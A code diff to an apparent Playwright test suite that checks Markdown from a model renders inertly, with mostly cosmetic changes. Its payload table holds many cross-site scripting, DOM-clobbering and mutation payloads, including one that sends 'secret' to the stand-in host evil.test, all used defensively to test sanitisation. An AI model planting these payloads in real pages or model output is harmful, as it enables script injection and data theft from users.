@@ -1,6 +1,7 @@
 """Markdown from a model: inert, and the same whether it streamed or was saved (rows 1, 2, 3 and 17 of the attacks)."""
 
 import time
+from collections.abc import Callable
 
 import pytest
 from playwright.sync_api import Page, expect
@@ -18,11 +19,11 @@ ATTACKS = {
     "a data link": "[click](data:text/html,<script>window.hit=1</script>)",
     "a frame": "<iframe src='https://evil.test/frame'></iframe><object data='https://evil.test/o'></object>",
     "a style": "<style>body{background:url(https://evil.test/css)}</style><p style='background:url(https://evil.test/s)'>x</p>",
-    "a link element": "<link rel=stylesheet href=https://evil.test/sheet><base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test/'>",
+    "a link element": "<link rel=stylesheet href=https://evil.test/sheet><base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test/'>",  # noqa: E501 - one attack, one line
     "a form": "<form action=https://evil.test/form><input name=message autofocus><button formaction=https://evil.test/>go</button></form>",
     "htmx": "<b hx-get='/stolen' hx-trigger=load data-hx-on:load='window.hit=1' hx-on::load='window.hit=1'>x</b>",
     "clobbering": "<a id=message name=message></a><form id=run-form></form><img name=body>",
-    "markdown images": "![a](https://evil.test/?d=secret) ![b](//evil.test/b) ![c](data:image/svg+xml,<svg/onload=window.hit=1>)",
+    "markdown images": "![a](https://evil.test/?d=secret) ![b](//evil.test/b) ![c](data:image/svg+xml,<svg/onload=window.hit=1>)",  # noqa: E501 - one attack, one line
     "a relative image": "![a](/accounts/logout/) ![b](../x) ![c](/attachments/../accounts/logout/)",
     "a linked image": "[![a](https://evil.test/i.png)](https://example.org/)",
     "a reference image": "![a][ref]\n\n[ref]: https://evil.test/ref.png",
@@ -33,7 +34,7 @@ ATTACKS = {
     "a language with markup": '```"><img/src=https://evil.test/l>\nx\n```',
     "html in a table": "| a |\n|---|\n| <img src=https://evil.test/t onerror=window.hit=1> |",
     "a comment that hides": "<!--><img src=https://evil.test/c onerror=window.hit=1>-->",
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.test/m onerror=window.hit=1&gt;">',
+    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://evil.test/m onerror=window.hit=1&gt;">',  # noqa: E501 - one attack, one line
     "a noscript": '<noscript><p title="</noscript><img src=https://evil.test/n onerror=window.hit=1>">',
 }
 """What a hostile answer may hold; every one would set `window.hit`, take over an element or ask evil.test for something."""
@@ -153,7 +154,7 @@ def test_an_image_from_elsewhere_becomes_a_link_and_an_attachment_stays(lab: Lab
 EVERYTHING = """# Title
 
 Some *emphasis*, **strong**, ~~gone~~, `code`, H<sub>2</sub>O, a <div>tag</div> and https://example.org.
-A second line  
+A second line\\
 with a break.
 
 - one
@@ -314,7 +315,9 @@ LONG_TASKS = """() => {
 
 
 @pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
-def test_text_that_breaks_renderers_keeps_the_page_responsive(lab: Lab, page: Page, text: str) -> None:
+def test_text_that_breaks_renderers_keeps_the_page_responsive(
+    lab: Lab, page: Page, text: str, record_property: Callable[[str, object], None]
+) -> None:
     _requests, faults = watch(page)
     lab.page = workbench(article(state="streaming"))
     page.goto(lab.url)
@@ -331,5 +334,5 @@ def test_text_that_breaks_renderers_keeps_the_page_responsive(lab: Lab, page: Pa
     long = page.evaluate("window.long")
     assert faults == []
     assert took < 15
-    print(f"longest tasks {sorted(long)[-3:]} ms, {took:.1f} s in all")
+    record_property("longest_task_ms", max(long, default=0))
     assert max(long, default=0) < 1_000, long
